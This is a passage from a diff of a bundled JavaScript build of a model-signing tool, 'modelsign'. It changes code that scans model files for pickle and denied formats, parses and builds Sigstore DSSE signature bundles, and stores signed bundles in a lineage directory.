+    } finally {
+      await src?.close();
+    }
+  }
+  return { format, pickle, imports, findings };
+}
+function report(file, size, r) {
+  const findings = [...r.findings];
+  if (r.format === "unknown" && OPAQUE_ARCHIVE.test(file)) {
+    findings.push({ code: "SCAN_SKIPPED", severity: "medium", file, message: "compressed or archive format that modelsign cannot look inside; not scanned (use .tar, .tar.gz or zip)" });
+  }
+  return { file, size, format: r.format, pickle: r.pickle, imports: r.imports, findings };
+}
+async function withSpooled(src, use) {
+  const dir = await mkdtemp(path7.join(os2.tmpdir(), "modelsign-scan-"));
+  try {
+    const dest = path7.join(dir, "member.zip");
+    const ws2 = createWriteStream(dest, { mode: 384 });
+    try {
+      while (await src.ensure(1)) {
+        if (!ws2.write(Buffer.from(src.take(src.buffered)))) await once(ws2, "drain");
+      }
+    } finally {
+      ws2.end();
+      await once(ws2, "close");
+    }
+    const fh = await open3(dest, "r");
+    try {
+      return await use(handleReader(fh, (await fh.stat()).size));
+    } finally {
+      await fh.close();
+    }
+  } finally {
+    await rm(dir, { recursive: true, force: true });
+  }
+}
+async function scanContent(content, shown, limits) {
+  const size = content.file.size;
+  const src = content.bytes();
+  try {
+    await src.ensure(SNIFF_BYTES);
+    const kind = sniff(src.peek(SNIFF_BYTES), shown);
+    if (kind !== "zip") return report(shown, size, await scanStream(src, kind, size, shown, limits));
+    if (content.random) return report(shown, size, await scanZip(content.random, shown, limits));
+    if (size > limits.maxMemberBytes) {
+      const finding = { code: "SCAN_LIMIT", severity: "high", file: shown, message: `zip member of ${size} bytes is over the ${limits.maxMemberBytes}-byte limit for copying out of the archive; not scanned` };
+      return report(shown, size, { format: "zip", pickle: false, imports: [], findings: [finding] });
+    }
+    try {
+      return report(shown, size, await withSpooled(src, (ra) => scanZip(ra, shown, limits)));
+    } catch (e) {
+      const code = errnoCode(e);
+      if (code === void 0) throw e;
+      const finding = { code: "SCAN_SKIPPED", severity: "high", file: shown, message: `zip member cannot be copied out of the archive to scan it (${code}; set TMPDIR to a writable directory); not scanned` };
+      return report(shown, size, { format: "zip", pickle: false, imports: [], findings: [finding] });
+    }
+  } finally {
+    await src.close();
+  }
+}
+var OPAQUE_ARCHIVE;
+var init_scan_file = __esm({
+  "src/scan/scan-file.ts"() {
+    "use strict";
+    init_errors();
+    init_random_access();
+    init_detect();
+    init_gguf();
+    init_npy();
+    init_pickle();
+    init_safetensors();
+    init_source();
+    init_zip();
+    OPAQUE_ARCHIVE = /\.(?:tar\.[a-z0-9]+|tzst|tbz2?|txz|zst|bz2|xz|lz4|7z|rar|gz|br)$/i;
+  }
+});
+
+// src/scan/inspector.ts
+var ScanInspector;
+var init_inspector = __esm({
+  "src/scan/inspector.ts"() {
+    "use strict";
+    init_scan_file();
+    ScanInspector = class {
+      constructor(limits) {
+        this.limits = limits;
+      }
+      reports = [];
+      /** Findings about entries that were not scanned (each also counted in `refused`). */
+      findings = [];
+      refused = 0;
+      limitNoted = false;
+      wants(file) {
+        if (this.reports.length < this.limits.maxFiles) return true;
+        this.refused++;
+        if (!this.limitNoted) {
+          this.limitNoted = true;
+          this.findings.push({ code: "SCAN_LIMIT", severity: "high", file: file.name, message: `more than ${this.limits.maxFiles} files; this file and later ones are not scanned` });
+        }
+        return false;
+      }
+      async inspect(content) {
+        this.reports.push(await scanContent(content, content.file.name, this.limits));
+      }
+      unreadable(file, failure) {
+        this.refused++;
+        const i = this.reports.findIndex((r) => r.file === file.name);
+        if (i >= 0) this.reports.splice(i, 1);
+        this.findings.push({ code: "SCAN_SKIPPED", severity: "high", file: file.name, message: `not scanned: ${failure.message} [${failure.code}]` });
+      }
+    };
+  }
+});
+
+// src/scan/stage.ts
+var stage_exports2 = {};
+__export(stage_exports2, {
+  DENIABLE_FORMATS: () => DENIABLE_FORMATS,
+  formatsStage: () => formatsStage
+});
+function denied(report2, deny) {
+  if (deny.has("pickle") && (report2.pickle || report2.format === "pytorch")) return report2.format === "pickle" ? "pickle" : `pickle (inside ${report2.format})`;
+  if (deny.has(report2.format)) return report2.format;
+  return void 0;
+}
+function formatsStage(formats, limits = {}) {
+  const deny = new Set((formats.deny ?? []).map((d) => d.toLowerCase()));
+  for (const d of deny) {
+    if (!DENIABLE_FORMATS.includes(d)) {
+      throw usage("POLICY_INVALID", `formats.deny: unknown format "${d}" (known: ${DENIABLE_FORMATS.join(", ")})`);
+    }
+  }
+  const scan = formats.scan === true;
+  const failOn = formats.failOn ?? "low";
+  if (!SEVERITIES.includes(failOn)) throw usage("POLICY_INVALID", `formats.failOn: unknown severity "${String(failOn)}" (known: ${SEVERITIES.join(", ")})`);
+  const lim = { ...DEFAULT_LIMITS, ...limits };
+  return {
+    name: "formats",
+    produces: "scan",
+    start: () => {
+      if (!scan && deny.size === 0) return { check: async () => [] };
+      const inspector = new ScanInspector(lim);
+      return { inspector, check: async (ctx) => judgeScan(inspector, { deny, scan, failOn }, ctx) };
+    }
+  };
+}
+function judgeScan(inspector, rules, ctx) {
+  const failures = [];
+  const findingFailures = (shown, findings) => {
+    if (!rules.scan) return;
+    for (const x of findings) {
+      if (severityRank(x.severity) < severityRank(rules.failOn)) continue;
+      failures.push({ code: "SCAN_FINDING", path: shown, message: clean(`${x.severity}: ${x.member !== void 0 ? `${x.member}: ` : ""}${x.message} [${x.code}]`, 2e3) });
+    }
+  };
+  const unchecked = (shown, findings) => {
+    if (rules.deny.size === 0) return;
+    for (const x of findings) {
+      if ((x.code === "SCAN_SKIPPED" || x.code === "SCAN_LIMIT") && severityRank(x.severity) >= severityRank("high")) {
+        failures.push({ code: "FORMAT_UNCHECKED", path: shown, message: clean(`cannot tell whether this is a denied format: ${x.message}`, 2e3) });
+      }
+    }
+  };
+  for (const r of inspector.reports) {
+    const why2 = denied(r, rules.deny);
+    if (why2) failures.push({ code: "FORMAT_DENIED", path: r.file, message: `policy denies ${why2} files` });
+    findingFailures(r.file, r.findings);
+    unchecked(r.file, r.findings);
+  }
+  for (const x of inspector.findings) {
+    findingFailures(x.file, [x]);
+    unchecked(x.file, [x]);
+  }
+  ctx.result.reports.scan = inspector.reports.map((r) => ({ file: r.file, format: r.format, pickle: r.pickle, findings: r.findings.length }));
+  return failures;
+}
+var init_stage3 = __esm({
+  "src/scan/stage.ts"() {
+    "use strict";
+    init_errors();
+    init_one_line();
+    init_inspector();
+    init_types();
+    init_types();
+  }
+});
+
+// src/policy/formats.ts
+var formats_exports = {};
+__export(formats_exports, {
+  formatsStages: () => formatsStages
+});
+async function formatsStages(formats) {
+  if (!formats) return [];
+  const { formatsStage: formatsStage2 } = await Promise.resolve().then(() => (init_stage3(), stage_exports2));
+  return [formatsStage2(formats)];
+}
+var init_formats = __esm({
+  "src/policy/formats.ts"() {
+    "use strict";
+  }
+});
+
+// src/util/base64.ts
+function isStrictBase64(s3) {
+  const n = s3.length;
+  if (n % 4 !== 0) return false;
+  let end = n;
+  if (n > 0 && s3.charCodeAt(n - 1) === 61) end = s3.charCodeAt(n - 2) === 61 ? n - 2 : n - 1;
+  return ALPHABET_ONLY.test(end === n ? s3 : s3.slice(0, end));
+}
+function decodeBase64(s3, what, code = "SIG_MALFORMED") {
+  const clean5 = /\s/.test(s3) ? s3.replace(/\s+/g, "") : s3;
+  if (!isStrictBase64(clean5)) throw reject(code, `${what} is not valid base64`);
+  return Buffer.from(clean5, "base64");
+}
+var ALPHABET_ONLY;
+var init_base64 = __esm({
+  "src/util/base64.ts"() {
+    "use strict";
+    init_errors();
+    ALPHABET_ONLY = /^[A-Za-z0-9+/]*$/;
+  }
+});
+
+// src/oms/dsse.ts
+function pae(payloadType, payload) {
+  const type = Buffer.from(payloadType, "utf8");
+  const head = Buffer.from(`DSSEv1 ${type.length} ${payloadType} ${payload.length} `, "utf8");
+  return Buffer.concat([head, payload]);
+}
+var IN_TOTO_PAYLOAD_TYPE;
+var init_dsse = __esm({
+  "src/oms/dsse.ts"() {
+    "use strict";
+    IN_TOTO_PAYLOAD_TYPE = "application/vnd.in-toto+json";
+  }
+});
+
+// src/oms/bundle.ts
+import { stat as stat3 } from "node:fs/promises";
+function buildBundle(input) {
+  const verificationMaterial = "publicKeyHint" in input.material ? { publicKey: { hint: input.material.publicKeyHint }, tlogEntries: [] } : { x509CertificateChain: { certificates: input.material.certificates.map((c) => ({ rawBytes: c.toString("base64") })) }, tlogEntries: [] };
+  return {
+    mediaType: BUNDLE_MEDIA_TYPE,
+    verificationMaterial,
+    dsseEnvelope: {
+      payload: input.payload.toString("base64"),
+      payloadType: IN_TOTO_PAYLOAD_TYPE,
+      signatures: [{ sig: input.signature.toString("base64"), keyid: "" }]
+    }
+  };
+}
+function serializeBundle(bundle) {
+  return JSON.stringify(bundle, null, 2) + "\n";
+}
+async function readBundleFile(file, maxBytes = MAX_BUNDLE_BYTES, opts = {}) {
+  try {
+    return await readRegularFile(file, maxBytes, opts.noFollow ? { noFollow: true } : {});
+  } catch (e) {
+    if (e instanceof NotRegularFile) {
+      const isDir = await stat3(file).then((st2) => st2.isDirectory(), () => false);
+      if (isDir) throw usage("SIG_UNREADABLE", `signature path is a directory: ${file}`);
+      throw reject("SIG_UNREADABLE", `signature is not a regular file: ${file}`);
+    }
+    if (e instanceof FileTooLarge) throw reject("SIG_TOO_LARGE", `signature file is larger than ${maxBytes} bytes: ${file}`);
+    const c = errnoCode(e);
+    if (c === "ENOENT") throw reject("SIG_MISSING", `signature file not found: ${file}`);
+    if (c === "ELOOP" && opts.noFollow) {
+      throw reject("SIG_UNREADABLE", `signature file is a symlink, not followed: ${file} (name the signature with --signature to use it)`);
+    }
+    throw reject("SIG_UNREADABLE", `cannot read signature file ${file}: ${c ?? String(e)}`);
+  }
+}
+function bad2(msg) {
+  throw reject("SIG_MALFORMED", `signature bundle is malformed: ${msg}`);
+}
+function parseBundle(bytes) {
+  if (bytes.length === 0) bad2("file is empty");
+  if (bytes.length > MAX_BUNDLE_BYTES) throw reject("SIG_TOO_LARGE", `signature bundle is larger than ${MAX_BUNDLE_BYTES} bytes`);
+  let text;
+  try {
+    text = new TextDecoder("utf-8", { fatal: true }).decode(bytes);
+  } catch {
+    bad2("not UTF-8");
+  }
+  const json = parseStrictJson(text, { what: "signature bundle", code: "SIG_MALFORMED" });
+  if (!isObject(json)) bad2("not a JSON object");
+  const mediaType = json.mediaType;
+  if (typeof mediaType !== "string" || !mediaType.startsWith("application/vnd.dev.sigstore.bundle")) bad2("missing or unknown mediaType");
+  const vm = json.verificationMaterial;
+  if (!isObject(vm)) bad2("verificationMaterial missing");
+  let material;
+  if (isObject(vm.publicKey)) {
+    const pk = vm.publicKey;
+    material = { kind: "publicKey" };
+    if (pk.hint !== void 0) {
+      if (typeof pk.hint !== "string") bad2("publicKey.hint must be a string");
+      material.hint = pk.hint;
+    }
+    if (pk.rawBytes !== void 0) {
+      if (typeof pk.rawBytes !== "string") bad2("publicKey.rawBytes must be a string");
+      material.rawBytes = decodeBase64(pk.rawBytes, "publicKey.rawBytes");
+    }
+    if (typeof pk.keyDetails === "string") material.keyDetails = pk.keyDetails;
+  } else if (isObject(vm.x509CertificateChain)) {
+    const certs = vm.x509CertificateChain.certificates;
+    if (!Array.isArray(certs) || certs.length === 0 || certs.length > 16) bad2("x509CertificateChain.certificates must hold 1 to 16 certificates");
+    material = {
+      kind: "x509CertificateChain",
+      certificates: certs.map((c, i) => {
+        if (!isObject(c) || typeof c.rawBytes !== "string") bad2(`certificate ${i} has no rawBytes`);
+        return decodeBase64(c.rawBytes, `certificate ${i}`);
+      })
+    };
+  } else if (isObject(vm.certificate)) {
+    if (typeof vm.certificate.rawBytes !== "string") bad2("certificate.rawBytes missing");
+    material = { kind: "certificate", certificate: decodeBase64(vm.certificate.rawBytes, "certificate") };
+  } else {
+    bad2("verificationMaterial has no publicKey, x509CertificateChain or certificate");
+  }
+  const env = json.dsseEnvelope;
+  if (!isObject(env)) {
+    if (json.messageSignature !== void 0) throw reject("UNSUPPORTED_FORMAT", "bundle holds a message signature, not a DSSE envelope: not a model signature");
+    bad2("dsseEnvelope missing");
+  }
+  if (typeof env.payloadType !== "string") bad2("dsseEnvelope.payloadType missing");
+  if (typeof env.payload !== "string" || env.payload.length === 0) bad2("dsseEnvelope.payload missing");
+  const payload = decodeBase64(env.payload, "dsseEnvelope.payload");
+  const sigs = env.signatures;
+  if (!Array.isArray(sigs) || sigs.length === 0) bad2("dsseEnvelope.signatures is empty");
+  if (sigs.length > 16) bad2("too many signatures");
+  const signatures = sigs.map((s3, i) => {
+    if (!isObject(s3) || typeof s3.sig !== "string" || s3.sig.length === 0) bad2(`signature ${i} has no sig`);
+    const keyid = s3.keyid;
+    if (keyid !== void 0 && keyid !== null && typeof keyid !== "string") bad2(`signature ${i} keyid must be a string or null`);
+    return { sig: decodeBase64(s3.sig, `signature ${i}`), keyid };
+  });
+  return { mediaType, material, payloadType: env.payloadType, payload, signatures, json, bytes };
+}
+var BUNDLE_MEDIA_TYPE, MAX_BUNDLE_BYTES;
+var init_bundle = __esm({
+  "src/oms/bundle.ts"() {
+    "use strict";
+    init_read_file();
+    init_errors();
+    init_base64();
+    init_strict_json();
+    init_dsse();
+    BUNDLE_MEDIA_TYPE = "application/vnd.dev.sigstore.bundle.v0.3+json";
+    MAX_BUNDLE_BYTES = 32 * 1024 * 1024;
+  }
+});
+
+// src/lineage/store.ts
+import { createHash as createHash2 } from "node:crypto";
+import { lstat as lstat2, opendir, stat as stat4 } from "node:fs/promises";
+import path9 from "node:path";
+function bundleDigestOf(bytes) {
+  return `sha256:${createHash2("sha256").update(bytes).digest("hex")}`;
+}
+async function openStore(dir) {
+  let st2;
+  try {
+    st2 = await stat4(dir);
+  } catch (e) {
+    throw usage("LINEAGE_STORE_UNREADABLE", `lineage store ${dir} not found (${errnoCode(e) ?? String(e)})`);
+  }
+  if (!st2.isDirectory()) throw usage("LINEAGE_STORE_UNREADABLE", `lineage store ${dir} is not a directory`);
+  return new LineageStore(dir);
+}
+async function readStoreFile(file) {
+  try {
+    return await readRegularFile(file, MAX_BUNDLE_BYTES, { noFollow: true });
+  } catch (e) {
+    if (e instanceof NotRegularFile) return void 0;
+    if (e instanceof FileTooLarge) throw reject("LINEAGE_MALFORMED", `${file} is larger than ${MAX_BUNDLE_BYTES} bytes`);
+    const c = errnoCode(e);
+    if (c === "ENOENT" || c === "ELOOP" || c === "EISDIR" || c === "ENXIO") return void 0;
+    throw reject("LINEAGE_STORE_UNREADABLE", `cannot read ${file}: ${c ?? String(e)}`);
+  }
+}
+function safeName(name2) {
+  const s3 = name2.replace(/[^A-Za-z0-9._+-]+/g, "_").replace(/^[._]+/, "").slice(0, 100);
+  return s3 || "model";
+}
+async function checkStoreDir(dir) {
+  await checkWritable(dir, "dir", "WRITE_FAILED", `lineage store ${dir}`);
+}
+async function createStoreDir(dir) {
+  await makeDirs(dir, "WRITE_FAILED", `lineage store ${dir}`);
+}
+async function findRecordSlot(dir, meta, bytes) {
+  const hex = bareHex(meta.rootDigest);
+  const base2 = `${safeName(meta.name)}@${safeName(meta.version)}.${hex}`;
+  const digest = bundleDigestOf(bytes);
+  for (const name2 of [`${base2}.sig`, `${base2}.${digest.slice(7, 23)}.sig`]) {
+    const file = path9.join(dir, name2);
+    let st2;
+    try {
+      st2 = await lstat2(file);
+    } catch (e) {
+      if (errnoCode(e) !== "ENOENT") throw usage("WRITE_FAILED", `cannot read ${file}: ${errnoWords(e)}`);
+    }
+    if (st2) {
+      if (!st2.isFile() || st2.size !== bytes.length) continue;
+      const existing = await readStoreFile(file).catch(() => void 0);
+      if (existing && existing.equals(bytes)) return { file, added: false };
+      continue;
+    }
+    return { file, added: true };
+  }
+  throw usage("WRITE_FAILED", `lineage store ${dir} already holds different bundles named ${base2}.*`);
+}
+async function recordBundle(dir, meta, bytes) {
+  await createStoreDir(dir);
+  const slot = await findRecordSlot(dir, meta, bytes);
+  if (slot.added) await writeAtomic(slot.file, bytes);
+  return slot;
+}
+var MAX_STORE_ENTRIES, MAX_CANDIDATES, MAX_STORE_READ_BYTES, ENTRY_RE, LineageStore;
+var init_store = __esm({
+  "src/lineage/store.ts"() {
+    "use strict";
+    init_errors();
+    init_bundle();
+    init_write_atomic();
+    init_errno();
+    init_metadata();
+    init_read_file();
+    MAX_STORE_ENTRIES = 1e5;
+    MAX_CANDIDATES = 16;
+    MAX_STORE_READ_BYTES = 256 * 1024 * 1024;
+    ENTRY_RE = /(?:^|[^0-9a-f])([0-9a-f]{64})(?:\.[0-9a-f]{1,64})?\.sig$/;
+    LineageStore = class {
+      dir;
+      index;
+      bytesRead = 0;
+      constructor(dir) {
+        this.dir = dir;
+      }
+      /** Map root digest (hex) -> candidate file names, built once from the listing. */
+      async buildIndex() {
+        if (this.index) return this.index;
+        const idx = /* @__PURE__ */ new Map();
+        let d;
+        try {
+          d = await opendir(this.dir);
+        } catch (e) {
+          throw usage("LINEAGE_STORE_UNREADABLE", `lineage store ${this.dir} cannot be read: ${errnoCode(e) ?? String(e)}`);
+        }
+        let n = 0;
+        try {
+          for await (const ent of d) {
+            if (++n > MAX_STORE_ENTRIES) throw reject("LINEAGE_STORE_TOO_LARGE", `lineage store ${this.dir} has more than ${MAX_STORE_ENTRIES} entries`);
+            if (ent.isDirectory() || ent.isSymbolicLink() || ent.isFIFO() || ent.isSocket() || ent.isBlockDevice() || ent.isCharacterDevice()) continue;
+            const m2 = ENTRY_RE.exec(ent.name);
+            if (!m2) continue;
+            const list2 = idx.get(m2[1]) ?? [];
+            if (list2.length < MAX_CANDIDATES) list2.push(ent.name);
+            idx.set(m2[1], list2);
+          }
+        } finally {
+          await d.close().catch(() => void 0);
+        }
+        for (const l of idx.values()) l.sort();
+        this.index = idx;
+        return idx;
+      }
+      /** Every bundle filed under this root digest (unverified bytes). */
+      async find(rootDigest2) {
+        const idx = await this.buildIndex();
+        const names = idx.get(bareHex(rootDigest2)) ?? [];
+        const out2 = [];
+        for (const name2 of names) {
+          const file = path9.join(this.dir, name2);
+          const bytes = await readStoreFile(file);
+          if (!bytes) continue;
+          this.bytesRead += bytes.length;
+          if (this.bytesRead > MAX_STORE_READ_BYTES) throw reject("LINEAGE_STORE_TOO_LARGE", `lineage store ${this.dir}: more than ${MAX_STORE_READ_BYTES} bytes of bundles read in one walk`);
+          out2.push({ file, bytes, bundleDigest: bundleDigestOf(bytes) });
+        }
+        return out2;
+      }
+    };
   }
 });
 
@@ -52324,13 +54149,13 @@ var init_blake3 = __esm({
 });
 
 // src/hashing/algorithms.ts
-import { createHash as createHash2 } from "node:crypto";
+import { createHash as createHash3 } from "node:crypto";
 import { createRequire as createRequire4 } from "node:module";
 function isHashAlgorithm(s3) {
   return typeof s3 === "string" && HASH_ALGORITHMS.includes(s3);
 }
 function nodeHasher(name2) {
-  const h = createHash2(name2);
+  const h = createHash3(name2);
   return { update: (d) => void h.update(d), digestHex: () => h.digest("hex") };
 }
 function loadNative() {
@@ -52459,7 +54284,7 @@ var init_read = __esm({
 // src/hashing/native.ts
 import { existsSync } from "node:fs";
 import { createRequire as createRequire5 } from "node:module";
-import os2 from "node:os";
+import os3 from "node:os";
 import { fileURLToPath } from "node:url";
 function loadNative2() {
   if (addon !== void 0) return addon;
@@ -52526,7 +54351,7 @@ var init_native = __esm({
     init_read();
     ADDON_PATH = fileURLToPath(new URL("../../native/build/Release/modelsign_native.node", import.meta.url));
     why = "";
-    ERRNO_NAMES = new Map(Object.entries(os2.constants.errno).map(([k2, v2]) => [v2, k2]));
+    ERRNO_NAMES = new Map(Object.entries(os3.constants.errno).map(([k2, v2]) => [v2, k2]));
     errName = (n) => ERRNO_NAMES.get(n) ?? `errno ${n}`;
     FAILURES = [
       ["FILE_IS_SYMLINK", MSG.symlink],
@@ -52552,7 +54377,7 @@ __export(engine_exports, {
   prewarmHashPool: () => prewarmHashPool,
   shutdownHashPool: () => shutdownHashPool
 });
-import os3 from "node:os";
+import os4 from "node:os";
 import { existsSync as existsSync2 } from "node:fs";
 import { fileURLToPath as fileURLToPath2 } from "node:url";
 import { Worker } from "node:worker_threads";
@@ -52562,7 +54387,7 @@ function workerUrl() {
   return new URL("../../dist/hashing/worker.js", import.meta.url);
 }
 function defaultJobs() {
-  return Math.max(1, typeof os3.availableParallelism === "function" ? os3.availableParallelism() : os3.cpus().length);
+  return Math.max(1, typeof os4.availableParallelism === "function" ? os4.availableParallelism() : os4.cpus().length);
 }
 function resolveJobs(jobs) {
   return Math.max(1, Math.min(jobs ?? defaultJobs(), MAX_JOBS));
@@ -52789,7 +54614,7 @@ var init_engine = __esm({
   }
 });
 
-// src/hashing/source.ts
+// src/source/ranges.ts
 function rangeKey(name2, start, end) {
   return `${name2}\0${start}\0${end}`;
 }
@@ -52801,38 +54626,18 @@ function plannedRanges(method, shardSize, size) {
   return out2;
 }
 function lookupRange(hashed, name2, start, end) {
-  return hashed.get(rangeKey(name2, start, end)) ?? { ok: false, code: "FILE_CHANGED", message: `byte range ${start}:${end} does not exist in the archive entry` };
+  return hashed.get(rangeKey(name2, start, end)) ?? { ok: false, code: "FILE_CHANGED", message: `byte range ${start}:${end} does not exist in the model file` };
 }
-var init_source = __esm({
-  "src/hashing/source.ts"() {
+var init_ranges = __esm({
+  "src/source/ranges.ts"() {
     "use strict";
   }
 });
 
 // src/hashing/serialize.ts
-import { createHash as createHash3 } from "node:crypto";
-function planResources(files, method, shardSize) {
-  if (method === "files") return files.map((f2) => ({ name: f2.name, file: f2, start: 0, end: f2.size }));
-  if (!shardSize || !Number.isSafeInteger(shardSize) || shardSize <= 0) throw new Error("shard size must be a positive integer");
-  const out2 = [];
-  for (const f2 of files) {
-    for (const [start, end] of plannedRanges("shards", shardSize, f2.size)) out2.push({ name: `${f2.name}:${start}:${end}`, file: f2, start, end });
-  }
-  return out2;
-}
-function taskFor(p2) {
-  return { abs: p2.file.abs, start: p2.start, end: p2.end, expectSize: p2.file.size, followLink: p2.file.viaLink, ...p2.file.id ? { expectId: p2.file.id } : {} };
-}
-async function hashResources(plans, alg, opts = {}) {
-  const outcomes = await hashTasks(plans.map(taskFor), alg, opts);
-  return plans.map((p2, i) => {
-    const o = outcomes[i];
-    if (!o.ok) throw reject(o.code, `${p2.file.name}: ${o.message}`, p2.file.name);
-    return { name: p2.name, algorithm: alg, digest: o.digest };
-  });
-}
+import { createHash as createHash4 } from "node:crypto";
 function rootDigest(resources) {
-  const h = createHash3("sha256");
+  const h = createHash4("sha256");
   for (const r of resources) h.update(Buffer.from(r.digest, "hex"));
   return h.digest("hex");
 }
@@ -52841,1883 +54646,228 @@ var init_serialize = __esm({
     "use strict";
     init_errors();
     init_engine();
-    init_source();
+    init_ranges();
   }
 });
 
-// src/verify/files.ts
-import { lstat as lstat3, realpath as realpath2 } from "node:fs/promises";
-import path9 from "node:path";
-function parseShardName(name2) {
-  const m2 = /^(.*):(\d{1,16}):(\d{1,16})$/s.exec(name2);
-  if (!m2) return void 0;
-  const start = Number(m2[2]);
-  const end = Number(m2[3]);
-  if (!Number.isSafeInteger(start) || !Number.isSafeInteger(end) || end < start) return void 0;
-  return { path: m2[1], start, end };
-}
-function shardsEnd(ranges) {
-  ranges.sort((a, b2) => a.start - b2.start || a.end - b2.end);
-  if (ranges.length === 1 && ranges[0].start === 0 && ranges[0].end === 0) return 0;
-  let pos = 0;
-  for (const r of ranges) {
-    if (r.start !== pos || r.end <= r.start) return void 0;
-    pos = r.end;
-  }
-  return ranges.length > 0 ? pos : void 0;
-}
-function groupResources(resources, ser, onlyFile) {
-  const failures = [];
-  const byFile = /* @__PURE__ */ new Map();
-  for (const r of resources) {
-    let p2;
-    let start = 0;
-    let end = -1;
-    if (ser.method === "shards") {
-      const s3 = parseShardName(r.name);
-      if (!s3) {
-        failures.push({ code: "UNSAFE_NAME", path: r.name, message: 'shard resource name is not "path:start:end"' });
-        continue;
-      }
-      ({ path: p2, start, end } = s3);
-    } else {
-      p2 = r.name;
-    }
-    if (onlyFile !== void 0) {
-      if (p2 === "." || p2 === onlyFile) p2 = onlyFile;
-    } else if (p2 !== "." || ser.method !== "files") {
-      const why2 = unsafeNameReason(p2);
-      if (why2) {
-        failures.push({ code: "UNSAFE_NAME", path: p2, message: `unsafe resource name in signature: ${why2}` });
-        continue;
-      }
-    }
-    const list2 = byFile.get(p2) ?? [];
-    list2.push({ resource: r, start, end });
-    byFile.set(p2, list2);
-  }
-  return { byFile, failures };
-}
-async function statInside(root, name2, allowSymlinks) {
-  const missing = { code: "FILE_MISSING", path: name2, message: "signed file is missing" };
-  const segs = name2.split("/");
-  let cur = root;
-  let viaLink = false;
-  for (let i = 0; i < segs.length; i++) {
-    cur = path9.join(cur, segs[i]);
-    let st3;
-    try {
-      st3 = await lstat3(cur);
-    } catch {
-      return missing;
-    }
-    if (st3.isSymbolicLink()) {
-      if (!allowSymlinks) return { code: "SYMLINK_REFUSED", path: name2, message: "signed path goes through a symlink" };
-      viaLink = true;
-    }
-  }
-  let abs = cur;
-  if (viaLink) {
-    try {
-      abs = await realpath2(cur);
-    } catch {
-      return { code: "SYMLINK_BROKEN", path: name2, message: "symlink target does not exist" };
-    }
-    const rootReal = await realpath2(root);
-    if (!abs.startsWith(rootReal.endsWith(path9.sep) ? rootReal : rootReal + path9.sep)) {
-      return { code: "SYMLINK_OUTSIDE", path: name2, message: "signed path goes through a symlink out of the model" };
-    }
-  }
-  let st2;
-  try {
-    st2 = await lstat3(abs);
-  } catch {
-    return missing;
-  }
-  if (!st2.isFile()) return { code: "SPECIAL_FILE", path: name2, message: "signed path is not a regular file" };
-  return { name: name2, abs, size: st2.size, viaLink: false, id: { dev: st2.dev, ino: st2.ino } };
-}
-function specialModelIsRejection(e) {
-  if (e instanceof ModelsignError && e.code === "SPECIAL_FILE") throw reject("SPECIAL_FILE", e.message);
-  throw e;
-}
-async function checkFiles(input) {
-  const { serialization: ser } = input;
-  const failures = [];
-  const ignores = effectiveIgnores(input.model, input.signaturePath, ser.ignore_paths, input.ignorePaths);
-  const source = input.listing ? void 0 : input.source;
-  let grouped = source ? groupResources(input.resources, ser, void 0) : void 0;
-  const pre = source ? await source(sourceRequest(input, ignores, grouped.byFile)) : void 0;
-  const listing = input.listing ?? pre?.listing ?? await enumerateModel(input.model, { ignorePaths: ignores, allowSymlinks: ser.allow_symlinks }).catch(specialModelIsRejection);
-  const onDisk = new Map(listing.files.map((f2) => [f2.name, f2]));
-  if (!grouped || listing.isFile) grouped = groupResources(input.resources, ser, listing.isFile ? listing.files[0].name : void 0);
-  const byFile = grouped.byFile;
-  for (const f2 of grouped.failures) failures.push(f2);
-  let signedDirs;
-  const concernsSigned = (p2) => {
-    if (byFile.has(p2)) return true;
-    if (!signedDirs) {
-      signedDirs = /* @__PURE__ */ new Set();
-      for (const name2 of byFile.keys()) {
-        for (let i = name2.indexOf("/"); i >= 0; i = name2.indexOf("/", i + 1)) signedDirs.add(name2.slice(0, i));
-      }
-    }
-    return signedDirs.has(p2);
-  };
-  for (const p2 of listing.problems) {
-    if (input.ignoreUnsignedFiles && p2.path !== void 0 && p2.path !== "." && p2.code !== "UNSAFE_NAME" && !concernsSigned(p2.path)) continue;
-    failures.push(p2);
-  }
-  const tasks = [];
-  const taskRanges = [];
-  const problemPaths = new Set(listing.problems.map((x) => x.path));
-  for (const [name2, ranges] of byFile) {
-    let f2 = onDisk.get(name2);
-    if (!f2) {
-      if (listing.isFile || !isIgnored(name2, ignores)) {
-        if (!problemPaths.has(name2)) failures.push({ code: "FILE_MISSING", path: name2, message: "signed file is missing" });
-        continue;
-      }
-      const found = await statInside(listing.root, name2, ser.allow_symlinks);
-      if ("code" in found) {
-        failures.push(found);
-        continue;
-      }
-      f2 = found;
-    }
-    if (ser.method === "files") {
-      if (ranges.length !== 1) continue;
-      ranges[0].end = f2.size;
-    } else {
-      if (shardsEnd(ranges) !== f2.size) {
-        failures.push({ code: "FILE_CHANGED", path: name2, message: `file size ${f2.size} does not match the signed shards` });
-        continue;
-      }
-    }
-    for (const r of ranges) {
-      tasks.push(taskFor({ name: name2, file: f2, start: r.start, end: r.end }));
-      taskRanges.push({ file: name2, range: r });
-    }
-  }
-  if (!input.ignoreUnsignedFiles) {
-    for (const f2 of listing.files) {
-      if (!byFile.has(f2.name)) failures.push({ code: "FILE_UNEXPECTED", path: f2.name, message: "file is not in the signature" });
-    }
-  }
-  const alg = ser.hash_type;
-  const outcomes = pre ? taskRanges.map(({ file, range }) => lookupRange(pre.hashed, file, range.start, range.end)) : await hashTasks(tasks, alg, input.engine);
-  const changed = /* @__PURE__ */ new Set();
-  let bytesHashed = 0;
-  outcomes.forEach((o, i) => {
-    const { file, range } = taskRanges[i];
-    bytesHashed += range.end - range.start;
-    if (changed.has(file)) return;
-    if (!o.ok) {
-      changed.add(file);
-      failures.push({ code: o.code, path: file, message: o.message });
-    } else if (o.digest !== range.resource.digest) {
-      changed.add(file);
-      failures.push({ code: "FILE_CHANGED", path: file, message: "file content does not match the signature" });
-    }
-  });
-  return { failures, filesChecked: byFile.size, bytesHashed };
-}
-function sourceRequest(input, ignorePaths, byFile) {
-  const ser = input.serialization;
-  const shards = /* @__PURE__ */ new Map();
-  if (ser.method === "shards") {
-    for (const [p2, list2] of byFile) {
-      const end = shardsEnd(list2);
-      shards.set(p2, { end, ranges: end === void 0 ? [] : list2.map((r) => [r.start, r.end]) });
-    }
-  }
+// src/oms/statement.ts
+function buildStatement(opts) {
+  const subject = { name: opts.name, digest: { sha256: opts.rootDigest } };
+  if (opts.metadata) subject.annotations = { modelsign: opts.metadata };
   return {
-    alg: ser.hash_type,
-    allowSymlinks: ser.allow_symlinks,
-    ignorePaths,
-    signedPaths: new Set(byFile.keys()),
-    ...input.engine?.onProgress ? { onProgress: input.engine.onProgress } : {},
-    ranges: (name2, size) => {
